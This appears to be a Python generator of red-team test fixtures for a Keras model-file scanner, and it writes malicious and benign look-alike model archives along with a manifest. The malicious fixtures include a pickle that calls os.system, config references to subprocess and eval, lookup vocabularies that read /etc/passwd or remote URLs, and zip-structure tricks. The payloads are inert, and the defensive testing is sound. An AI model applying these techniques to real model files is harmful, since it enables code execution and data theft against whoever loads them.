"""Red-team fixtures for the Keras analysers: variants of known attack classes that the per-format
corpora did not cover, and benign look-alikes.

Run with any Python 3 (standard library only): `python3 gen_fixtures.py`, then (each appends its
rows to MANIFEST.tsv, with the pinned requirements.txt) gen_h5.py, gen_h5_2.py, gen_tf.py,
gen_onnx.py and gen_pbtxt.py. The base archive is the
Keras-made `../keras/benign/sequential.keras`; configs are edited the way attackers edit them.
Payloads are inert (`echo aisec-fixture`, reading /etc/hostname); nothing here loads a generated
file, and pickles are only written, never read.
"""

import base64
import copy
import io
import json
import os
import pickle
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
BASE = os.path.join(HERE, "..", "keras", "benign", "sequential.keras")
ROWS = []


def row(path, expected, cls, desc):
    ROWS.append((path, expected, cls, desc))


def member(name):
    """A zip entry with a fixed timestamp, so regenerating gives the same bytes."""
    info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def write(rel, data):
    full = os.path.join(HERE, rel)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as f:
        f.write(data)


def base_config():
    with zipfile.ZipFile(BASE) as z:
        return json.loads(z.read("config.json"))


def keras_archive(cfg, extra=None):
    out = io.BytesIO()
    with zipfile.ZipFile(BASE) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for n in src.namelist():
            data = json.dumps(cfg).encode() if n == "config.json" else src.read(n)
            z.writestr(member(n), data)
        for n, data in (extra or {}).items():
            z.writestr(member(n), data)
    return out.getvalue()


def with_layer(layer):
    cfg = base_config()
    cfg["config"]["layers"].append(layer)
    return cfg


def lookup(cls, vocab, name="lookup"):
    return {"module": "keras.layers", "class_name": cls,
            "config": {"name": name, "trainable": True, "dtype": "int64", "vocabulary": vocab,
                       "num_oov_indices": 1, "mask_token": None, "oov_token": "[UNK]",
                       "output_mode": "int", "vocabulary_size": 4},
            "registered_name": None}


class _System:
    """Pickles as a call to os.system; never unpickled here."""

    def __reduce__(self):
        return (os.system, ("echo aisec-fixture",))


def torch_wrapper(blob):
    return {"module": "keras.layers", "class_name": "TorchModuleWrapper",
            "config": {"name": "torch_module_wrapper", "trainable": True, "dtype": "float32",
                       "module": base64.b64encode(blob).decode("ascii"), "output_shape": None},
            "registered_name": None}


def fn_ref(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


# ----- lookup layers reading files outside the archive (CVE-2025-12058) -----
for rel, cls, vocab, desc in [
    ("malicious/vocab_abs_stringlookup.keras", "StringLookup", "/etc/hostname",
     "StringLookup vocabulary is an absolute path the loader reads"),
    ("malicious/vocab_url_textvectorization.keras", "TextVectorization",
     "https://example.invalid/vocab.txt", "TextVectorization vocabulary is a URL tf.io.gfile fetches"),
    ("malicious/vocab_gcs_integerlookup.keras", "IntegerLookup", "gs://example-bucket/ids.txt",
     "IntegerLookup vocabulary on a remote file system"),
    ("malicious/vocab_dotdot.keras", "StringLookup", "../../../../etc/hostname",
     "StringLookup vocabulary climbs out of the working directory"),
]:
    write(rel, keras_archive(with_layer(lookup(cls, vocab))))
    row(rel, "malicious", "keras3-vocabulary-file", desc)

legacy = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
    {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 1], "dtype": "string",
                                            "name": "input_1"}},
    {"class_name": "StringLookup", "config": {"name": "string_lookup", "trainable": True,
                                              "dtype": "int64", "vocabulary": "/etc/passwd",
                                              "num_oov_indices": 1, "mask_token": None,
                                              "oov_token": "[UNK]", "output_mode": "int"}}]},
          "keras_version": "2.15.0", "backend": "tensorflow"}
write("malicious/legacy_vocab_abs.json", json.dumps(legacy).encode())
row("malicious/legacy_vocab_abs.json", "malicious", "legacy-vocabulary-file",
    "tf.keras model JSON whose StringLookup reads /etc/passwd")

# ----- TorchModuleWrapper: base64 torch.load pickle in the config -----
evil = pickle.dumps(_System(), protocol=2)
write("malicious/torch_wrapper_pickle.keras", keras_archive(with_layer(torch_wrapper(evil))))
row("malicious/torch_wrapper_pickle.keras", "malicious", "keras3-torch-wrapper",
    "TorchModuleWrapper module is a pickle calling os.system")
write("malicious/torch_wrapper_pickle_p4.keras",
      keras_archive(with_layer(torch_wrapper(pickle.dumps(_System(), protocol=4)))))
row("malicious/torch_wrapper_pickle_p4.keras", "malicious", "keras3-torch-wrapper",
    "TorchModuleWrapper module is a protocol-4 pickle calling os.system")

# ----- module references in unusual places -----
cfg = base_config()
cfg["config"]["layers"][1]["config"]["dtype"] = fn_ref("os", "system")
write("malicious/ref_in_dtype.keras", keras_archive(cfg))
row("malicious/ref_in_dtype.keras", "malicious", "keras3-module-reference",
    "dtype policy replaced by a reference to os.system")
cfg = base_config()
cfg["config"]["layers"][1]["build_config"] = {"input_shape": fn_ref("subprocess", "getoutput")}
write("malicious/ref_in_build_config.keras", keras_archive(cfg))
row("malicious/ref_in_build_config.keras", "malicious", "keras3-module-reference",
    "build_config holds a reference to subprocess.getoutput")
cfg = base_config()
cfg["compile_config"] = {"optimizer": "adam", "loss": {"module": "keras.losses", "class_name":
                         "MeanSquaredError", "config": {"name": fn_ref("builtins", "eval"),
                                                        "reduction": "sum_over_batch_size"}},
                         "metrics": None, "loss_weights": None}
write("malicious/ref_in_compile_nested.keras", keras_archive(cfg))
row("malicious/ref_in_compile_nested.keras", "malicious", "keras3-module-reference",
    "compile_config loss config nests a reference to builtins.eval")

# ----- extra members -----
write("malicious/extra_member_pickle.keras",
      keras_archive(base_config(), {"assets/extra.pkl": evil}))
row("malicious/extra_member_pickle.keras", "malicious", "keras3-extra-member",
    "an extra archive member is a pickle calling os.system")

# ----- benign look-alikes -----
write("benign/vocab_inline.keras",
      keras_archive(with_layer(lookup("StringLookup", ["cat", "dog", "bird"]))))
row("benign/vocab_inline.keras", "benign", "keras3-vocabulary",
    "StringLookup with an inline vocabulary list")
write("benign/vocab_null_assets.keras",
      keras_archive(with_layer(lookup("StringLookup", None)),
                    {"assets/layers/lookup/vocabulary.txt": b"cat\ndog\n"}))
row("benign/vocab_null_assets.keras", "benign", "keras3-vocabulary",
    "StringLookup whose vocabulary lives in the archive's assets (what Keras 3 writes)")
leg = copy.deepcopy(legacy)
leg["config"]["layers"][1]["config"]["vocabulary"] = "vocab.txt"
write("benign/legacy_vocab_relative.json", json.dumps(leg).encode())
row("benign/legacy_vocab_relative.json", "benign", "legacy-vocabulary",
    "tf.keras model JSON written from StringLookup(vocabulary='vocab.txt')")
benign_state = pickle.dumps({"weight": [0.5, 0.25], "bias": [0.0]}, protocol=2)
write("benign/torch_wrapper_plain.keras",
      keras_archive(with_layer(torch_wrapper(benign_state))))
row("benign/torch_wrapper_plain.keras", "benign", "keras3-torch-wrapper",
    "TorchModuleWrapper whose module pickle holds only plain data")

# ----- configs a strict JSON parser or a Hugging Face sniffer would set aside -----
EVIL = os.path.join(HERE, "..", "keras", "malicious", "lambda_os_system.keras")


def evil_config():
    with zipfile.ZipFile(EVIL) as z:
        return json.loads(z.read("config.json"))


def raw_archive(config_bytes, src=EVIL):
    out = io.BytesIO()
    with zipfile.ZipFile(src) as s, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for n in s.namelist():
            z.writestr(member(n), config_bytes if n == "config.json" else s.read(n))
    return out.getvalue()


cfg = evil_config()
cfg["model_type"] = "bert"
cfg["architectures"] = ["BertModel"]
write("malicious/hf_keys_lambda.keras", raw_archive(json.dumps(cfg).encode()))
row("malicious/hf_keys_lambda.keras", "malicious", "keras3-config-disguise",
    "Lambda os.system config.json with Hugging Face keys added at the top level")
write("malicious/hf_keys_lambda.json", json.dumps(cfg).encode())
row("malicious/hf_keys_lambda.json", "malicious", "keras3-config-disguise",
    "the same config as a standalone JSON file")
# Python's json writes NaN/Infinity for non-finite floats and reads them back; strict parsers refuse.
cfg = evil_config()
cfg["config"]["layers"][1]["config"]["nan_marker"] = float("nan")
cfg["config"]["layers"][1]["config"]["inf_marker"] = float("-inf")
write("malicious/nan_in_config.keras", raw_archive(json.dumps(cfg).encode()))
row("malicious/nan_in_config.keras", "malicious", "keras3-config-nonfinite",
    "Lambda os.system config.json that also holds NaN and -Infinity (valid for Python's json)")
write("malicious/nan_in_config.json", json.dumps(cfg).encode())
row("malicious/nan_in_config.json", "malicious", "keras3-config-nonfinite",
    "the same config as a standalone JSON file")
cfg = base_config()
cfg["config"]["layers"].append({"module": "keras.layers", "class_name": "ReLU", "config": {
    "name": "relu_capped", "trainable": True, "dtype": "float32", "max_value": float("inf"),
    "negative_slope": 0.0, "threshold": float("-inf")}, "registered_name": None})
write("benign/relu_infinity.keras", keras_archive(cfg))
row("benign/relu_infinity.keras", "benign", "keras3-config-nonfinite",
    "ReLU whose config holds Infinity and -Infinity, as Python's json writes them")

# ----- zip tricks: Python's zipfile takes the last of duplicate names and tolerates a prefix -----
def dup_config_archive(first, second):
    out = io.BytesIO()
    with zipfile.ZipFile(BASE) as s, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(member("metadata.json"), s.read("metadata.json"))
        z.writestr(member("config.json"), first)
        z.writestr(member("model.weights.h5"), s.read("model.weights.h5"))
        z.writestr(member("config.json"), second)
    return out.getvalue()


import warnings  # noqa: E402

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    write("malicious/zip_duplicate_config.keras",
          dup_config_archive(json.dumps(base_config()).encode(), json.dumps(evil_config()).encode()))
row("malicious/zip_duplicate_config.keras", "malicious", "keras3-zip-trick",
    "two config.json members: the benign one first, the Lambda os.system one last (the one loaded)")
with open(EVIL, "rb") as fh:
    write("malicious/zip_prefixed.keras", b"#!/bin/sh\necho not-a-zip\n" + b"\0" * 512 + fh.read())
row("malicious/zip_prefixed.keras", "malicious", "keras3-zip-trick",
    "Lambda os.system .keras with 540 bytes prepended (zipfile still opens it)")

# ----- TFOpLambda naming TensorFlow APIs that read files or reach other hosts -----
def tfop_model(fn, args):
    return {"class_name": "Functional", "config": {"name": "model", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 1], "dtype": "string",
                                                "name": "input_1"}, "name": "input_1",
         "inbound_nodes": []},
        {"class_name": "TFOpLambda", "config": {"name": "tf.op", "trainable": True,
                                                "dtype": "float32", "function": fn},
         "name": "tf.op", "inbound_nodes": [["_CONSTANT_VALUE", -1, args, {}]]}],
        "input_layers": [["input_1", 0, 0]], "output_layers": [["tf.op", 0, 0]]},
        "keras_version": "2.15.0", "backend": "tensorflow"}


for rel, fn, args, desc in [
    ("malicious/tfop_textline_dataset.json", "data.TextLineDataset", "/etc/hostname",
     "TFOpLambda calling tf.data.TextLineDataset on /etc/hostname"),
    ("malicious/tfop_compat_saved_model_load.json", "compat.v1.saved_model.load",
     "/tmp/other_model", "TFOpLambda calling tf.compat.v1.saved_model.load"),
    ("malicious/tfop_connect_to_host.json", "config.experimental_connect_to_host",
     "grpc://example.invalid:8470", "TFOpLambda connecting the runtime to a remote host"),
]:
    write(rel, json.dumps(tfop_model(fn, args)).encode())
    row(rel, "malicious", "legacy-tfoplambda", desc)
write("benign/tfop_math.json", json.dumps(tfop_model("math.multiply", 2.0)).encode())
row("benign/tfop_math.json", "benign", "legacy-tfoplambda", "TFOpLambda calling tf.math.multiply")

# ----- benign Lambda layers as people write them (this interpreter's marshal layout) -----
LAMBDAS = r'''
lambda x: tf.image.resize(x, (224, 224))
lambda x: tf.nn.space_to_depth(x, 2)
lambda x: K.expand_dims(x, -1)
lambda x: tf.keras.applications.mobilenet_v2.preprocess_input(x)
lambda x: tf.cast(x, tf.float32) / 255.0
lambda x: K.mean(x, axis=1)
lambda t: tf.squeeze(t, axis=-1)
lambda x: tf.math.l2_normalize(x, axis=1)
lambda x: K.abs(x[0] - x[1])
lambda x: K.sqrt(K.maximum(K.sum(K.square(x[0] - x[1]), axis=1, keepdims=True), K.epsilon()))
lambda a: a[0] + K.exp(0.5 * a[1]) * K.random_normal(shape=(K.shape(a[0])[0], 2))
lambda x: tf.one_hot(tf.cast(x, "int32"), 10)
lambda x: tf.transpose(x, [0, 2, 1])
lambda x: tf.pad(x, [[0, 0], [1, 1], [1, 1], [0, 0]], mode="REFLECT")
lambda x: tf.einsum("bij,bjk->bik", x[0], x[1])
lambda x: tf.linalg.matmul(x[0], x[1], transpose_b=True)
lambda x: tf.concat(x, axis=-1)
lambda x: K.int_shape(x) and x
lambda x: tf.compat.v1.image.resize_bilinear(x, (64, 64))
lambda x: tf.signal.stft(x, frame_length=256, frame_step=128)
lambda x: tf.strings.lower(x)
lambda x: tf.clip_by_value(x, 0.0, 1.0)
lambda x: keras.ops.softmax(x, axis=-1)
lambda x: tf.nn.depth_to_space(x, 2)
lambda x: tf.reverse(x, axis=[1])
lambda x: K.batch_flatten(x)
lambda x: tf.keras.activations.swish(x)
lambda x: tf.where(tf.math.is_nan(x), tf.zeros_like(x), x)
lambda x: tf.split(x, num_or_size_splits=2, axis=-1)[0]
lambda x: tf.math.reduce_logsumexp(x, axis=-1, keepdims=True)
lambda x: x * tf.math.sigmoid(x)
lambda x: tf.image.per_image_standardization(x)
lambda x: tf.expand_dims(tf.range(tf.shape(x)[1]), 0)
lambda x: tf.keras.backend.repeat_elements(x, 3, axis=-1)
lambda x: tf.nn.l2_normalize(x, axis=-1)
lambda x: np.float32(2.0) * x
lambda x: x / 127.5 - 1
lambda x: K.tf.image.resize_images(x, (64, 64))
lambda x: K.max(x, axis=1) + K.sum(K.cast(x, 'float32'))
lambda x: tf.nn.embedding_lookup(x[0], x[1])
lambda x: tf.linalg.band_part(tf.ones((4, 4)), -1, 0)
lambda x: tf.sequence_mask(x, maxlen=10)
lambda x: tf.nn.moments(x, axes=[1])[0]
lambda x: tf.nn.top_k(x, k=5).values
lambda x: tf.argsort(x, direction="DESCENDING")
lambda x: tf.dynamic_partition(x, tf.cast(x > 0, tf.int32), 2)[1]
lambda x: tf.shape(x)[0]
lambda x: K.permute_dimensions(x, (0, 2, 1))
lambda x: tf.keras.layers.Dropout(0.2)(x)
lambda x: tf.nn.conv2d(x, tf.ones((3, 3, 1, 1)), strides=1, padding="SAME")
lambda x: tf.math.segment_sum(x, [0, 0, 1])
lambda x: tf.image.extract_patches(x, [1, 2, 2, 1], [1, 2, 2, 1], [1, 1, 1, 1], "VALID")
lambda x, mask=None: x if mask is None else x * tf.cast(mask, x.dtype)
lambda x: tf.math.unsorted_segment_sum(x, [0, 1], 2)
lambda x: tf.reduce_max(x, axis=-1, keepdims=True)
lambda x: tf.nn.ctc_loss
lambda x: tf.cumsum(x, axis=1, exclusive=True)
lambda x: tf.keras.backend.sum(x, axis=-1)
lambda x: tf.math.reduce_std(x)
lambda x: [x[:, i] for i in range(3)]
lambda x: tf.image.random_flip_left_right(x)
lambda x: tf.keras.preprocessing.image.img_to_array(x)
lambda x: tf.ensure_shape(x, (None, 4))
lambda x: tf.random.uniform(tf.shape(x)) * x
lambda x: tf.keras.backend.stop_gradient(x)
lambda x: tf.math.floormod(x, 2)
lambda x: tf.math.sqrt(tf.reduce_sum(tf.math.squared_difference(x[0], x[1]), axis=-1))
lambda x: tf.keras.backend.mean(x, axis=-1)
lambda x: tf.tensor_scatter_nd_add(x, [[0]], [1.0])
lambda x: tf.linalg.norm(x, axis=-1)
lambda x: tf.math.maximum(x, 0.0)
lambda x: {"a": x}["a"]
lambda x: tf.reshape(x, (-1, x.shape[1] * x.shape[2]))
lambda x: tf.nn.softmax(x / tf.math.sqrt(tf.cast(tf.shape(x)[-1], tf.float32)))
lambda x: tf.nn.sigmoid_cross_entropy_with_logits(labels=x[0], logits=x[1])
lambda x: tf.math.log(x + K.epsilon())
'''.strip().splitlines()


def lambda_layer(i, src):
    import marshal

    fn = eval(src, {})  # builds the function object only; it is never called
    return {"module": "keras.layers", "class_name": "Lambda", "config": {
        "name": f"lambda_{i}", "trainable": True, "dtype": "float32",
        "function": {"class_name": "__lambda__", "config": {
            "code": base64.b64encode(marshal.dumps(fn.__code__)).decode(), "defaults": None,
            "closure": None}},
        "output_shape": None, "arguments": {}}, "registered_name": None}


cfg = base_config()
cfg["config"]["layers"].extend(lambda_layer(i, src) for i, src in enumerate(LAMBDAS))
write("benign/lambda_zoo.keras", keras_archive(cfg))
row("benign/lambda_zoo.keras", "benign", "keras3-lambda-math",
    "76 tensor-math Lambdas as people write them (tf.image, tf.signal.stft, tf.strings.lower, K.*)")

# ----- a tensor-math-looking Lambda that appends to a file through tf.print -----
cfg = base_config()
cfg["config"]["layers"].append(
    lambda_layer(0, "lambda x: tf.print(x, output_stream='file:///tmp/aisec-fixture') or x"))
write("malicious/lambda_tf_print_file.keras", keras_archive(cfg))
row("malicious/lambda_tf_print_file.keras", "malicious", "keras3-lambda",
    "Lambda whose only names are tf and print, writing to file:///tmp/aisec-fixture")

with open(os.path.join(HERE, "MANIFEST.tsv"), "w") as f:
    f.write("path\texpected\tclass\tdescription\n")
    for r in ROWS:
        f.write("\t".join(r) + "\n")
